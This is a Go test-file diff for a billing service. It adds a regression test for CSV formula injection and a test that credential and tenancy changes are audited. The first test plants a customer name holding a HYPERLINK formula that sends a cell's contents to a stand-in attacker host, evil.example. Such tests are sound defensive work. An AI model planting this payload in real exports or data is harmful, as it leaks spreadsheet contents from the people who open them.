@@ -22,6 +22,7 @@ import (
 	"github.com/stackbill/stackbill/internal/auth"
 	"github.com/stackbill/stackbill/internal/bridge"
 	"github.com/stackbill/stackbill/internal/clock"
+	"github.com/stackbill/stackbill/internal/directory"
 	"github.com/stackbill/stackbill/internal/money"
 	"github.com/stackbill/stackbill/internal/quarantine"
 	"github.com/stackbill/stackbill/internal/registration"
@@ -542,4 +543,97 @@ func TestPortalSessions(t *testing.T) {
 	if resp.StatusCode != 303 || !strings.HasPrefix(resp.Header.Get("Location"), "/portal/login") {
 		t.Fatalf("a page after the token was revoked: %d %s", resp.StatusCode, resp.Header.Get("Location"))
 	}
+}
+
+// TestExportsAreSafeInASpreadsheet: CSV exports carried customer names that
+// begin with =, +, - or @ unescaped, which a spreadsheet runs as formulas.
+func TestExportsAreSafeInASpreadsheet(t *testing.T) {
+	storetest.Each(t, func(t *testing.T, backend string) {
+		w := newBillingWorld(t, backend)
+		ctx := context.Background()
+		evil := `=HYPERLINK("http://evil.example/?"&A1,"Adatum")`
+		if _, _, err := w.env.app.Directory.PutCustomer(ctx, w.op, directory.Customer{TenantID: W.Adatum.Tenant, Name: evil, Partner: "contoso"}); err != nil {
+			t.Fatal(err)
+		}
+		for _, path := range []string{"/v1/billing/invoices/SB-202610-contoso?format=csv", "/v1/billing/reconciliation?partner=contoso&period=2026-10",
+			"/v1/billing/statements/contoso?period=2026-10&format=csv"} {
+			resp, body := w.env.raw("GET", path, w.env.tokens["contoso"], "", nil)
+			if resp.StatusCode != 200 {
+				t.Fatalf("%s: %d %s", path, resp.StatusCode, body)
+			}
+			if !strings.Contains(body, "HYPERLINK") {
+				t.Fatalf("%s does not show the customer at all", path)
+			}
+			for _, line := range strings.Split(body, "\n") {
+				for _, cell := range strings.Split(line, ",") {
+					cell = strings.TrimPrefix(cell, `"`)
+					if strings.HasPrefix(cell, "=") || strings.HasPrefix(cell, "@") || strings.HasPrefix(cell, "+") {
+						t.Fatalf("%s has a cell a spreadsheet would run: %q", path, cell)
+					}
+				}
+			}
+		}
+	})
+}
+
+// TestCredentialsAndTenancyAreAudited: bridge credentials issued by
+// getactivationkey were recorded as "stackbill (database)" without scope,
+// revoking the previous one was not recorded, and stack tenancy changes
+// were not audited at all.
+func TestCredentialsAndTenancyAreAudited(t *testing.T) {
+	storetest.Each(t, func(t *testing.T, backend string) {
+		e := newTestEnv(t, backend)
+		ctx := context.Background()
+		e.createRegistration(W.FabrikamDefault, "azurestack", "fabrikam-stamp", registration.PayAsYouUse, true)
+		for i := 0; i < 2; i++ {
+			if resp, body := e.raw("POST", regsPath(W.FabrikamDefault)+"/fabrikam-stamp/getactivationkey?api-version=2017-06-01", e.tokens["fabrikam"], "", nil); resp.StatusCode != 200 {
+				t.Fatalf("activation key: %d %s", resp.StatusCode, body)
+			}
+		}
+		recs, err := audit.List(ctx, e.app.DB, audit.Query{Scopes: []string{"fabrikam"}, Kind: "token"})
+		if err != nil {
+			t.Fatal(err)
+		}
+		var created, revoked int
+		for _, r := range recs {
+			if !strings.Contains(string(r.After), `"role":"bridge"`) && !strings.Contains(string(r.After), "superseded") {
+				continue // the test's own partner token
+			}
+			if !strings.HasPrefix(r.Actor, "partner:fabrikam/") {
+				t.Errorf("%s recorded as %q", r.Action, r.Actor)
+			}
+			switch r.Action {
+			case "token.create":
+				created++
+			case "token.revoke":
+				revoked++
+				if !strings.Contains(string(r.After), "superseded") {
+					t.Errorf("revocation without its reason: %s", r.After)
+				}
+			}
+		}
+		if created != 2 || revoked != 1 {
+			t.Fatalf("fabrikam sees %d issued and %d revoked bridge credentials, want 2 and 1", created, revoked)
+		}
+		// Tenancy: onboarding a directory and creating, changing and
+		// deleting a subscription are each one record.
+		sop, _, _ := e.app.Auth.Create(ctx, auth.RoleStackOperator, "", "", "", 0)
+		prov := e.app.Tenancy.Provider()
+		tenant, sub := randomGUID(), randomGUID()
+		for _, c := range []struct{ method, path, body string }{
+			{"PUT", "/subscriptions/" + prov + "/resourceGroups/system.local/providers/Microsoft.Subscriptions.Admin/directoryTenants/t1?api-version=2015-11-01", `{"location":"local","properties":{"tenantId":"` + tenant + `"}}`},
+			{"PUT", "/subscriptions/" + prov + "/providers/Microsoft.Subscriptions.Admin/subscriptions/" + sub + "?api-version=2015-11-01", `{"properties":{"tenantId":"` + tenant + `","owner":"a","offerId":"o"}}`},
+			{"PUT", "/subscriptions/" + prov + "/providers/Microsoft.Subscriptions.Admin/subscriptions/" + sub + "?api-version=2015-11-01", `{"properties":{"tenantId":"` + tenant + `","owner":"b","offerId":"o"}}`},
+			{"DELETE", "/subscriptions/" + prov + "/providers/Microsoft.Subscriptions.Admin/subscriptions/" + sub + "?api-version=2015-11-01", ""},
+		} {
+			if resp, body := e.raw(c.method, c.path, sop, "application/json", strings.NewReader(c.body)); resp.StatusCode >= 300 {
+				t.Fatalf("%s %s: %d %s", c.method, c.path, resp.StatusCode, body)
+			}
+		}
+		subs, _ := audit.List(ctx, e.app.DB, audit.Query{Kind: "userSubscription", ID: sub})
+		dirs, _ := audit.List(ctx, e.app.DB, audit.Query{Kind: "directoryTenant", ID: tenant})
+		if len(subs) != 3 || len(dirs) != 1 || !strings.Contains(string(subs[2].After), `"Deleted"`) || !strings.HasPrefix(subs[0].Actor, "stack-operator/") {
+			t.Fatalf("tenancy audit: %d subscription records, %d directory records", len(subs), len(dirs))
+		}
+	})
 }
